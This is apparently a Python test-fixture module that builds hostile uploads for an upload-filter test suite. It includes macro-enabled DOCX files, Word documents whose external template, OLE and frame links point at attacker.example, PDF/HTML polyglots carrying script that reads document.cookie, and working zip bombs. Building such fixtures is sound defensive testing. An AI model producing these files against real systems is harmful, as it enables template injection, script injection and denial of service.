"""Hostile uploads built in the tests: zip bombs, polyglots, Office files that run or fetch things.

Shared by the library's and the expert network's upload tests. Each builder
makes the real thing (a file an unzipper, Word or a browser would act on),
small enough to build in a test.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
from pypdf import PdfWriter

MIB = 1024 * 1024
WORD_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def plain_docx() -> bytes:
    """An ordinary DOCX made by python-docx, with an external hyperlink (which is fine)."""
    document = docx.Document()
    document.add_paragraph("Guidelines on assisted voluntary return")
    buffer = io.BytesIO()
    document.save(buffer)
    return add_relationship(
        buffer.getvalue(),
        "word/_rels/document.xml.rels",
        f"{WORD_REL}/hyperlink",
        "https://www.iom.int/",
        external=True,
    )


def plain_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def rewrite_zip(
    data: bytes, *, add: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None
) -> bytes:
    """The ZIP ``data`` with members replaced and added (deflated, as Office writes them)."""
    replace, add = replace or {}, add or {}
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            target.writestr(member.filename, replace.get(member.filename, source.read(member)))
        for name, content in add.items():
            target.writestr(name, content)
    return buffer.getvalue()


def add_relationship(
    data: bytes, rels_name: str, kind: str, target: str, *, external: bool = False
) -> bytes:
    """``data`` with one more relationship in ``rels_name`` (a new part when there is none)."""
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="rIdHostile" Type="{kind}" Target="{target}"{mode}/>'
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        current = archive.read(rels_name).decode() if rels_name in names else None
    if current is None:
        rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{relationship}</Relationships>"
        )
        return rewrite_zip(data, add={rels_name: rels.encode()})
    rels = current.replace("</Relationships>", f"{relationship}</Relationships>")
    return rewrite_zip(data, replace={rels_name: rels.encode()})


# --- Office documents that run or fetch things -------------------------------------------


def docx_with_macros() -> bytes:
    """A .docm renamed .docx: the macro project and its content types."""
    data = plain_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rewrite_zip(
        data,
        replace={"[Content_Types].xml": types.encode()},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
    )


def docx_with_macro_content_type_only() -> bytes:
    """Macro-enabled by its content types, the project stored under an innocent name."""
    data = plain_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace(
        "</Types>",
        '<Override PartName="/word/data.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return rewrite_zip(
        data, replace={"[Content_Types].xml": types.encode()}, add={"word/data.bin": b"\x00" * 64}
    )


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)


def docx_with_embedded_exe() -> bytes:
    """An OLE package in ``word/embeddings`` (what "Insert object" stores) holding a program."""
    return rewrite_zip(plain_docx(), add={"word/embeddings/oleObject1.bin": EXE})


def docx_with_exe_disguised_as_picture() -> bytes:
    return rewrite_zip(plain_docx(), add={"word/media/image1.png": EXE})


def docx_with_external_template() -> bytes:
    """Template injection: Word fetches the attached template (and its macros) on opening."""
    return add_relationship(
        plain_docx(),
        "word/_rels/settings.xml.rels",
        f"{WORD_REL}/attachedTemplate",
        "https://attacker.example/template.dotm",
        external=True,
    )


def docx_with_external_ole_link() -> bytes:
    return add_relationship(
        plain_docx(),
        "word/_rels/document.xml.rels",
        f"{WORD_REL}/oleObject",
        "file://///attacker.example/share/object.xlsx",
        external=True,
    )


def docx_with_external_frame() -> bytes:
    return add_relationship(
        plain_docx(),
        "word/_rels/webSettings.xml.rels",
        f"{WORD_REL}/frame",
        "https://attacker.example/frame.docx",
        external=True,
    )


def docx_with_alt_chunk() -> bytes:
    """An HTML altChunk: Word imports (and renders) the web page on opening."""
    data = add_relationship(
        plain_docx(), "word/_rels/document.xml.rels", f"{WORD_REL}/aFChunk", "afchunk.mht"
    )
    return rewrite_zip(
        data, add={"word/afchunk.mht": b"<html><body><script>alert(1)</script></body></html>"}
    )


def xlsx_with_external_link(xlsx: bytes) -> bytes:
    return rewrite_zip(xlsx, add={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


def odt_with_ole_object(odt: bytes) -> bytes:
    manifest = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="/" '
        b'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        b'<manifest:file-entry manifest:full-path="Object 1" '
        b'manifest:media-type="application/vnd.sun.star.oleobject"/></manifest:manifest>'
    )
    return rewrite_zip(odt, add={"META-INF/manifest.xml": manifest, "Object 1": b"\xd0\xcf\x11"})


# --- polyglots ----------------------------------------------------------------------------


def pdf_html_polyglot() -> bytes:
    """A valid PDF that is also a web page: the markup sits in a PDF comment after the header."""
    pdf = plain_pdf()
    header, rest = pdf.split(b"\n", 1)
    page = b"%<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
    return header + b"\n" + page + rest


def pdf_behind_html() -> bytes:
    """A web page first, the PDF after it (readers find a header in the first kilobyte)."""
    return b"<!-- --><html><body><script>alert(1)</script></body></html>\n" + plain_pdf()


def pdf_header_not_at_start() -> bytes:
    return b"GIF89a;\n" + plain_pdf()


# --- zip bombs ----------------------------------------------------------------------------


def zeros_deflated(mebibytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``mebibytes`` MiB of zeros and its CRC, built in well under a second.

    With a full flush each MiB compresses on its own, to the same bytes: the
    stream is one such block repeated, then the final one.
    """
    chunk = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressor.compress(chunk)
    compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = block * mebibytes + compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(chunk, crc)
    return stream, crc


def raw_zip(members: list[tuple[str, bytes, int, int]], *, copies: int = 1) -> bytes:
    """A ZIP of already deflated ``(name, stream, crc, size)`` members, written by hand.

    The last member is listed ``copies`` times in the directory, each entry
    pointing at the same data (as an unzipper would extract it, once per entry).
    """
    out, directory = io.BytesIO(), []
    for index, (name, stream, crc, size) in enumerate(members):
        offset = out.tell()
        encoded = name.encode()
        sizes = (crc, len(stream), size, len(encoded))
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes, 0))
        out.write(encoded + stream)
        entry = struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes, 0, 0, 0, 0, 0, offset
        )
        last = index == len(members) - 1
        directory.extend([entry + encoded] * (copies if last else 1))
    start, listing = out.tell(), b"".join(directory)
    count = len(directory)
    out.write(listing)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(listing), start, 0))
    return out.getvalue()


def deflated(name: str, content: bytes) -> tuple[str, bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = compressor.compress(content) + compressor.flush()
    return name, stream, zlib.crc32(content), len(content)


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docx_bomb(mebibytes: int, *, copies: int = 1) -> bytes:
    """A DOCX whose ``word/media/zeros.bin`` unpacks to ``mebibytes`` MiB (``copies`` times)."""
    stream, crc = zeros_deflated(mebibytes)
    return raw_zip(
        [
            deflated("[Content_Types].xml", CONTENT_TYPES),
            deflated("word/document.xml", b"<w:document/>"),
            ("word/media/zeros.bin", stream, crc, mebibytes * MIB),
        ],
        copies=copies,
    )
